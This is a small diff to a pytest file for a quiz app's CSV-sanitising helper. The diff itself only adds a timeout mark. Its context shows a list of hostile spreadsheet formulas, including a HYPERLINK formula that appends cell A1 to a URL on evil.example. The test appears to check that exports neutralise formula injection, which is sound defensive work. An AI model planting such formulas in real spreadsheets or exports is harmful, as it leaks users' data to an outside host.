@@ -12,7 +12,7 @@ from core.spreadsheet import csv_safe
 from quizzes.models import Question, QuizAttempt, Response
 from tests.quizzes.factories import make_quiz
 
-pytestmark = pytest.mark.hostile
+pytestmark = [pytest.mark.hostile, pytest.mark.timeout(120)]
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
